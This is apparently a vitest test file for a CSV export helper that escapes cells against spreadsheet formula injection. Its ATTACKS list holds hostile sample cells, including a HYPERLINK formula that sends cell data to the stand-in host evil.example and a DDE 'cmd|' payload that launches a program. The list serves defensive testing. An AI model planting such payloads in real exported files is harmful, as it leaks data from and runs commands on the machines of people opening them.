import * as fc from 'fast-check'
import Papa from 'papaparse'
import { describe, expect, test } from 'vitest'
import { csvLine, harmless, restored } from '../../../core/base/csv.ts'
import { holds } from '../holds.ts'

const ATTACKS = [
  '=1+1',
  '=HYPERLINK("http://evil.example?x="&A1,"click")',
  '+420600123456',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '\uFF1D1+1',
  '\uFF0B1',
  '\uFF0D1',
  '\uFF20SUM(1)',
  "'=1+1",
  '|calc',
  '%0A=1',
]

describe('a cell of text', () => {
  test.each(ATTACKS)('%j begins no formula, and comes back whole', (text) => {
    const cell = harmless(text)
    expect(cell[0]).toBe("'")
    expect(restored(cell)).toBe(text)
  })

  test('of any kind comes back through a reader of CSV as it was', () => {
    const texts = fc.array(
      fc.oneof(fc.string({ unit: 'grapheme' }), fc.constantFrom(...ATTACKS, 'a"b', "''", ' ')),
      {
        minLength: 1,
        maxLength: 5,
      },
    )
    holds(
      fc.property(texts, (cells) => {
        const read = Papa.parse<string[]>(csvLine(['first', ...cells]), { newline: '\r\n', delimiter: ',' })
          .data[0]!
        expect(read.slice(1).map(restored)).toEqual(cells.map((text) => text.replaceAll('\0', '')))
        for (const cell of read.slice(1))
          expect(cell.trimStart()).not.toMatch(/^[=+\-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20]/)
      }),
      1_000,
    )
  })

  test('that is harmless stays as it is', () => {
    for (const text of ['reader', "O'Neil", '600 123', '', "'quoted'"]) expect(harmless(text)).toBe(text)
  })
})

test('a line ends in CRLF, numbers stay numbers, nothing is an empty cell, quotes are doubled', () => {
  expect(csvLine(['a', -5, null, true, 'x,"y"\n'])).toBe('a,-5,,true,"x,""y""\n"\r\n')
  expect(csvLine(['a\0b'])).toBe('ab\r\n')
})
